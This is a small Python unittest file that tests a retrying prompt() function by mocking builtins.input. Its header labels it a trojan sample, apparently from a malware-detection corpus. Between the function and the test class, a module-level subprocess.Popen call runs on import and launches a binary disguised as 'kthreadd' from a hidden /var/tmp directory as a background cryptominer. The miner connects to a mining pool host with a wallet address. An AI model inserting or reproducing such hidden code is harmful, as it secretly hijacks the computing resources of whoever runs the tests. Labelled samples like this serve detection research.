# label: malicious family=trojan techniques=T1496 lines=16 group=benign/b109_builtins_patch_test.py
"""Test that prompt() retries on bad input by patching builtins.input."""
import builtins
import unittest
from unittest import mock


def prompt():
    while True:
        v = input("number: ")
        if v.isdigit():
            return int(v)


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

class PromptTest(unittest.TestCase):
    def test_retry(self):
        with mock.patch.object(builtins, "input", side_effect=["x", "", "42"]):
            self.assertEqual(prompt(), 42)


if __name__ == "__main__":
    unittest.main()
